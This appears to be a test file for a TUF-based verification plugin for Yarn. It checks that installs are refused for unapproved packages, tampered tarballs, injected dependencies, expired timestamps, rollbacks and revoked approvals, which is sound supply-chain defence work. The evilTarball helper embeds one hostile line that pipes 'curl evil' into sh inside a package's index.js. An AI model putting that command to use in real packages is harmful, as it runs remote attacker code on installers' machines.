import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { buildPackageTarball, packumentFile, tarballFile } from '@tufpm/registry';
import { OVERLAY_APPROVAL_ROLE } from '@tufpm/verify';
import type { CliResult } from '../src/harness/npm-world.js';
import { refusedYarn as refused } from '../src/harness/attacks-graph.js';
import { OverlayWorld } from '../src/harness/overlay-world.js';
import { captureDir, restoreDir } from '../src/harness/attacks-metadata.js';
import { renewOnline } from '@tufpm/overlay';
import type { YarnProject } from '../src/harness/yarn.js';

// Overlay mode (ADR 0017) with real Yarn 4 and the tufpm plugin: the upstream is a loopback registry serving
// no TUF metadata, the team's approvals (from a yarn.lock) are served by a separate static server. Every
// refused install exits 1 with a coded report and leaves yarn.lock, tufpm-lock.json, .pnp.cjs, the
// install state and node_modules as they were.

const evilTarball = (name: string, version: string): Uint8Array =>
  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });

function ok(res: CliResult, what: string): void {
  assert.equal(res.code, 0, `${what}\n${res.stdout}${res.stderr}`);
}

describe('overlay mode: Yarn against an upstream registry without TUF metadata', () => {
  let world: OverlayWorld;
  let yarnLock: string;

  before(async () => {
    world = await OverlayWorld.create();
    await world.upstream.publishUnsigned('right', '1.0.0');
    await world.upstream.publishUnsigned('left', '1.0.0', { right: '^1.0.0' });
    await world.upstream.publishUnsigned('stray', '1.0.0');
    // the team's project as it is today: plain Yarn against the upstream
    const plain = await world.yarnProject({ left: '^1.0.0' }, { plugin: false });
    ok(await plain.yarn(['install', '--mode=update-lockfile']), 'plain Yarn writes yarn.lock');
    yarnLock = (await plain.read('yarn.lock'))!;
    const approved = await world.overlay(['approve', '--lockfile', join(plain.dir, 'yarn.lock'), '--key', world.reviewers[0]!.file, '--json']);
    ok(approved, 'approve yarn.lock');
    assert.deepEqual((JSON.parse(approved.stdout) as { new: string[] }).new, ['left@1.0.0', 'right@1.0.0']);
  });
  after(() => world.close());

  async function approvedProject(): Promise<YarnProject> {
    const project = await world.yarnProject({ left: '^1.0.0' });
    await project.write('yarn.lock', yarnLock);
    return project;
  }

  test('an approved yarn.lock installs from the upstream, verified against the team\'s repository', async () => {
    const project = await approvedProject();
    ok(await project.yarn(['install']), 'yarn install');
    const lock = JSON.parse((await project.read('tufpm-lock.json'))!) as { packages: Record<string, { role: string }> };
    assert.equal(lock.packages['right@1.0.0']?.role, OVERLAY_APPROVAL_ROLE);
    await project.freshMachine();
    ok(await project.yarn(['install', '--immutable']), 'yarn install --immutable on a fresh machine');
  });

  test('rejects yarn add of an unapproved package before downloading anything', async () => {
    const project = await approvedProject();
    ok(await project.yarn(['install']), 'yarn install');
    await refused(project, ['add', 'stray'], /TUF_NOT_APPROVED/, /stray/, /tufpm-overlay approve/);
    assert.deepEqual(await project.archives('cache'), (await project.archives('cache')).filter((f) => !f.startsWith('stray-')), 'no archive of stray');
  });

  test('rejects yarn add of an exact unapproved version the upstream has, with the approve command', async () => {
    await world.upstream.publishUnsigned('right', '1.2.0');
    const project = await approvedProject();
    ok(await project.yarn(['install']), 'yarn install');
    const res = await refused(project, ['add', 'right@1.2.0'], /TUF_NOT_APPROVED/, /right@1\.2\.0/, /tufpm-overlay approve/);
    assert.doesNotMatch(res.stdout, /No candidates found/);
    assert.deepEqual((await project.archives('cache')).filter((f) => f.startsWith('right-') && f.includes('1.2.0')), [], 'nothing of right@1.2.0 downloaded');
    // an approved exact version still resolves
    ok(await project.yarn(['add', 'right@1.0.0']), 'yarn add right@1.0.0');
  });

  test('rejects an approved version whose tarball the upstream replaced', async () => {
    const project = await approvedProject();
    const saved = await readFile(tarballFile(world.upstream.registryDir, 'right/-/right-1.0.0.tgz'));
    await world.upstream.replaceTarball('right', '1.0.0', evilTarball('right', '1.0.0'));
    try {
      await refused(project, ['install'], /TUF_TARBALL_MISMATCH/, /right@1\.0\.0|right@npm:1\.0\.0/);
    } finally {
      await world.upstream.replaceTarball('right', '1.0.0', saved);
    }
  });

  test('rejects a dependency the upstream added to the packument of an approved version', async () => {
    const file = packumentFile(world.upstream.registryDir, 'left');
    const saved = await readFile(file);
    await world.upstream.addPackumentDependency('left', '1.0.0', 'right', '^1.0.0 || ^2.0.0');
    try {
      const project = await world.yarnProject({ left: '^1.0.0' });
      await refused(project, ['install'], /TUF_EXTRANEOUS_DEPENDENCY/, /left/);
    } finally {
      await writeFile(file, saved);
    }
  });

  test('rejects an expired timestamp', async () => {
    const project = await approvedProject();
    const monthAgo = new Date(Date.now() - 30 * 24 * 3600 * 1000);
    await renewOnline(await world.openRepository(monthAgo), 'timestamp');
    try {
      await refused(project, ['install'], /TUF_EXPIRED/);
    } finally {
      ok(await world.overlay(['timestamp']), 'the scheduled job renews the timestamp');
    }
    ok(await project.yarn(['install']), 'installs once the timestamp is renewed');
  });

  test('rejects an approval rolled back to an older snapshot', async () => {
    await world.upstream.publishUnsigned('late', '1.0.0');
    const before = await captureDir(world.paths.metadataDir);
    const plain = await world.yarnProject({ left: '^1.0.0', late: '1.0.0' }, { plugin: false });
    ok(await plain.yarn(['install', '--mode=update-lockfile']), 'plain Yarn writes yarn.lock');
    ok(await world.overlay(['approve', '--lockfile', join(plain.dir, 'yarn.lock'), '--key', world.reviewers[0]!.file]), 'approve late');
    const project = await world.yarnProject({ left: '^1.0.0', late: '1.0.0' });
    await project.write('yarn.lock', (await plain.read('yarn.lock'))!);
    ok(await project.yarn(['install']), 'installs under the newer approvals');
    const after = await captureDir(world.paths.metadataDir);
    // the metadata host (a CDN, a bucket) serves the state from before the approval
    await restoreDir(world.paths.metadataDir, before);
    try {
      await refused(project, ['install'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/);
      await project.freshMachine();
      await refused(project, ['install'], /TUF_PIN_ROLLBACK/);
    } finally {
      await restoreDir(world.paths.metadataDir, after);
    }
  });

  test('rejects a revoked approval on the next install', async () => {
    const project = await approvedProject();
    ok(await project.yarn(['install']), 'installs while approved');
    ok(await world.overlay(['revoke', 'right@1.0.0', '--key', world.reviewers[0]!.file]), 'revoke');
    try {
      await project.freshMachine();
      await refused(project, ['install', '--immutable'], /TUF_NOT_APPROVED/, /right/);
    } finally {
      ok(await world.overlay(['approve', '--lockfile', join(project.dir, 'yarn.lock'), '--key', world.reviewers[0]!.file]), 're-approve');
    }
  });
});
